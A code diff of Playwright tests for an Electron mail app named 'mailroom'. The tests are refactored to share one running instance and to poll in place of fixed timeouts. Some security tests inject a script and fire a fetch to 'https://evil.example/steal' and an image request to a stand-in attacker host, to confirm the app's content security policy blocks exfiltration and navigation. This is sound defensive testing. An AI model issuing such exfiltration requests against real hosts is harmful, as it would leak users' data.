@@ -5,7 +5,7 @@
 import { cp, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join, resolve } from 'node:path'
-import { type Browser, test as base, expect } from '@playwright/test'
+import { test as base, expect } from '@playwright/test'
 import { type StandIn, type StandInOptions, startElectron } from '../electron-stand-in/index.ts'
 
 const built = resolve(import.meta.dirname, '../../dist/electron')
@@ -18,12 +18,23 @@ const probe = `document.body.dataset.ran = 'yes'
 window.violations = []
 document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective))`
 
-interface Desk {
-  readonly folder: string
-  start(more?: Partial<StandInOptions>): Promise<StandIn>
-}
+/** Of all tests: the program where it is installed, and one window that stays open. */
+let folder: string
+let running: StandIn
+let start: (more?: Partial<StandInOptions>) => Promise<StandIn>
 
-const makeDesk = async (browser: Browser, folder: string): Promise<Desk> => {
+const test = base.extend<{ electron: StandIn }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern
+  electron: async ({}, use) => {
+    // Nothing is left of what another test did to the page, or made the program do.
+    await (await running.page()).reload()
+    running.forget()
+    await use(running)
+  },
+})
+
+test.beforeAll(async ({ browser }) => {
+  folder = await mkdtemp(join(tmpdir(), 'mailroom-electron-'))
   // Below node_modules, since the test runner would translate anything else that it loads.
   const installation = join(folder, 'node_modules/mailroom')
   await mkdir(join(installation, 'renderer/assets'), { recursive: true })
@@ -32,30 +43,18 @@ const makeDesk = async (browser: Browser, folder: string): Promise<Desk> => {
   await writeFile(join(installation, 'renderer/index.html'), page)
   await writeFile(join(installation, 'renderer/assets/probe.js'), probe)
   await writeFile(join(installation, 'renderer/csp.json'), '{"styleHashes":[]}')
-  return {
-    folder,
-    start: (more = {}) =>
-      startElectron({
-        browser,
-        main: join(installation, 'electron/main.js'),
-        dataFolder: join(folder, 'data'),
-        ...more,
-      }),
-  }
-}
-
-const test = base.extend<{ desk: Desk; electron: StandIn }>({
-  desk: async ({ browser }, use) => {
-    const folder = await mkdtemp(join(tmpdir(), 'mailroom-electron-'))
-    await use(await makeDesk(browser, folder))
-    await rm(folder, { recursive: true, force: true })
-  },
-  electron: async ({ desk }, use) => {
-    const electron = await desk.start()
-    await electron.page()
-    await use(electron)
-    await electron.close()
-  },
+  start = (more = {}) =>
+    startElectron({
+      browser,
+      main: join(installation, 'electron/main.js'),
+      dataFolder: join(folder, 'data'),
+      ...more,
+    })
+  running = await start()
+})
+test.afterAll(async () => {
+  await running.close()
+  await rm(folder, { recursive: true, force: true })
 })
 
 type Bridge = {
@@ -118,41 +117,42 @@ test.describe('the window', () => {
     })
   })
 
-  test('keeps the browser’s data apart from the console’s', async ({ desk, electron }) => {
-    expect(electron.paths.get('userData')).toBe(join(desk.folder, 'data'))
-    expect(electron.paths.get('sessionData')).toBe(join(desk.folder, 'data/window'))
+  test('keeps the browser’s data apart from the console’s', ({ electron }) => {
+    expect(electron.paths.get('userData')).toBe(join(folder, 'data'))
+    expect(electron.paths.get('sessionData')).toBe(join(folder, 'data/window'))
   })
 
-  test('opens where it was closed, unless that is on no screen any more', async ({ desk }) => {
-    const first = await desk.start()
+  test('opens where it was closed, unless that is on no screen any more', async () => {
+    const dataFolder = join(folder, 'moved')
+    const first = await start({ dataFolder })
     await first.page()
     first.windows[0]?.moveTo({ x: 50, y: 60, width: 1000, height: 700 })
     await first.close()
-    expect((await stat(join(desk.folder, 'data/window.json'))).isFile()).toBe(true)
+    expect((await stat(join(dataFolder, 'window.json'))).isFile()).toBe(true)
 
-    const second = await desk.start()
+    const second = await start({ dataFolder })
     await second.page()
     expect(second.windows[0]?.options).toMatchObject({ x: 50, y: 60, width: 1000, height: 700 })
     second.windows[0]?.moveTo({ x: 3000, y: 60, width: 1000, height: 700 })
     await second.close()
 
-    const third = await desk.start()
+    const third = await start({ dataFolder })
     await third.page()
     expect(third.windows[0]?.options).toMatchObject({ width: 1280, height: 800 })
     expect(third.windows[0]?.options.x).toBeUndefined()
     await third.close()
   })
 
-  test('is the only one: a second start brings the first to the front', async ({ desk, electron }) => {
-    const second = await desk.start({ secondInstance: true })
+  test('is the only one: a second start brings the first to the front', async ({ electron }) => {
+    const second = await start({ secondInstance: true })
     expect(second.quits()).toBeGreaterThan(0)
     expect(second.windows).toHaveLength(0)
     electron.app.emit('second-instance')
     expect(electron.windows[0]?.focused).toBe(1)
   })
 
-  test('ends the program when it is closed', async ({ desk }) => {
-    const electron = await desk.start()
+  test('ends the program when it is closed', async () => {
+    const electron = await start({ dataFolder: join(folder, 'closed') })
     await electron.page()
     await electron.windows[0]?.close()
     await expect.poll(() => electron.quits()).toBeGreaterThan(0)
@@ -167,21 +167,18 @@ test.describe('the page', () => {
     expect(electron.windows[0]?.webContents.getURL()).toBe('app://mailroom/')
     expect(await shown.title()).toBe('Probe')
     expect(await shown.evaluate(() => getComputedStyle(document.body).color)).toBe('rgb(0, 0, 0)')
-    const evaluated = await shown.evaluate(async () => {
-      await new Promise((done) => setTimeout(done, 50))
+    await shown.evaluate(async () => {
       const script = document.createElement('script')
       script.textContent = 'document.body.dataset.injected = "yes"'
       document.body.append(script)
       const image = new Image()
       image.src = 'https://evil.example/pixel.png'
       await fetch('https://evil.example/steal').catch(() => undefined)
-      await new Promise((done) => setTimeout(done, 100))
-      return { injected: document.body.dataset['injected'], violations: window.violations }
     })
-    expect(evaluated.injected).toBeUndefined()
-    expect(evaluated.violations).toEqual(
-      expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src']),
-    )
+    await expect
+      .poll(() => shown.evaluate(() => window.violations))
+      .toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src']))
+    expect(await shown.evaluate(() => document.body.dataset['injected'])).toBeUndefined()
     expect(electron.session.leaked).toEqual([])
   })
 
@@ -207,15 +204,19 @@ test.describe('the page', () => {
 test.describe('what a page may not do', () => {
   test('leave', async ({ electron }) => {
     const shown = await electron.page()
-    for (const url of [
+    let refused = 0
+    electron.windows[0]?.webContents.on('will-frame-navigate', (event) => {
+      if (event.defaultPrevented()) refused += 1
+    })
+    for (const [index, url] of [
       'https://evil.example/',
       'https://learn.microsoft.com/',
       'https://app.other.electron.invalid/',
-    ]) {
+    ].entries()) {
       await shown.evaluate((to) => {
         location.href = to
       }, url)
-      await shown.waitForTimeout(50)
+      await expect.poll(() => refused).toBe(index + 1)
       expect(electron.windows[0]?.webContents.getURL()).toBe('app://mailroom/')
     }
     expect(electron.openedExternally).toEqual([])
@@ -240,7 +241,7 @@ test.describe('what a page may not do', () => {
       frame.src = 'https://evil.example/'
       document.body.append(frame)
     })
-    await shown.waitForTimeout(50)
+    await expect.poll(() => shown.evaluate(() => window.violations)).toContain('frame-src')
     expect(electron.session.leaked).toEqual([])
     const event = { prevented: false, preventDefault: () => (event.prevented = true) }
     electron.windows[0]?.webContents.emit('will-attach-webview', event)
@@ -399,9 +400,9 @@ test.describe('calls', () => {
     expect(await codeOf('x'.repeat(65), 'app.info', {})).toBe('INPUT_INVALID')
   })
 
-  test('tell progress, and end when they are cancelled', async ({ desk, electron }) => {
+  test('tell progress, and end when they are cancelled', async ({ electron }) => {
     const shown = await electron.page()
-    const file = join(desk.folder, 'mail.properties')
+    const file = join(folder, 'mail.properties')
     await writeFile(file, 'mail.smtp.host=one.example\n')
     const added = (await shown.evaluate(
       ([id, method, input]) => (window as unknown as Window['probe']).mailroom.call(id, method, input),
@@ -416,13 +417,10 @@ test.describe('calls', () => {
       Object.assign(window, { ended })
     }, added.value.record.id)
     await expect
-      .poll(
-        async () => {
-          await writeFile(file, `mail.smtp.host=two.example\n# ${Date.now()}\n`)
-          return shown.evaluate(() => (window as unknown as { seen: string[] }).seen)
-        },
-        { timeout: 15_000 },
-      )
+      .poll(async () => {
+        await writeFile(file, `mail.smtp.host=two.example\n# ${Date.now()}\n`)
+        return shown.evaluate(() => (window as unknown as { seen: string[] }).seen)
+      })
       .toContain('watch-1')
     const answer = await shown.evaluate(async () => {
       ;(window as unknown as Window['probe']).mailroom.cancel('watch-1')
